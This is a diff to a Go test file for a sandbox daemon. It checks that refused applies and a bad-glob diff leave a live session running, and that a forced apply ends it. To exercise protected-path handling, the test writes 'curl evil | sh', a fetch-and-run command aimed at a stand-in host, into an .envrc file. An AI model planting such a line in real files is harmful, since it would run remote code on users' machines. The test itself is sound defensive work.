@@ -221,3 +221,38 @@ func TestReviewsEndWithTheDaemon(t *testing.T) {
 		t.Errorf("the daemon left a reviewed workspace: %v", err)
 	}
 }
+
+// TestRefusedApplyKeepsSession: an apply the change set would refuse (a
+// protected path, a path that selects nothing) and a diff with a bad
+// glob are refused before the review ends the live session: its
+// commands run on. Before, the session ended (its commands killed) and
+// only then was the apply refused (tried). The control: an apply forced
+// over the protected path ends it and applies.
+func TestRefusedApplyKeepsSession(t *testing.T) {
+	d := startDaemon(t, daemon.Config{}, nil)
+	ctx := context.Background()
+	ws := t.TempDir()
+	s := overlaySession(t, d, ws)
+	run(t, d.c, s.ID, &client.ExecRequest{Args: []string{"sh", "-c", "echo ok > b.txt; echo 'curl evil | sh' > .envrc"}})
+	if _, err := d.c.Apply(ctx, s.ID, &client.ApplyRequest{}); apiCode(err) != client.CodeProtected {
+		t.Errorf("apply over .envrc: %v", err)
+	}
+	if _, err := d.c.Apply(ctx, s.ID, &client.ApplyRequest{Paths: []string{"nothing-here"}}); apiCode(err) != client.CodeBadRequest {
+		t.Errorf("apply of a path with no change: %v", err)
+	}
+	if _, err := d.c.Diff(ctx, s.ID, "summary", []string{"["}); apiCode(err) != client.CodeBadRequest {
+		t.Errorf("diff with a bad glob: %v", err)
+	}
+	if out, _, rep := run(t, d.c, s.ID, &client.ExecRequest{Args: []string{"cat", "b.txt"}}); rep == nil || out != "ok\n" {
+		t.Fatalf("the session after refused reviews: %q %+v", out, rep)
+	}
+	if _, err := d.c.Apply(ctx, s.ID, &client.ApplyRequest{Force: []string{".envrc"}}); err != nil {
+		t.Fatalf("forced apply: %v", err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(ws, "b.txt")); string(b) != "ok\n" {
+		t.Errorf("after the forced apply, b.txt holds %q", b)
+	}
+	if _, err := d.c.Session(ctx, s.ID); apiCode(err) != client.CodeEnded {
+		t.Errorf("the session outlived its apply: %v", err)
+	}
+}
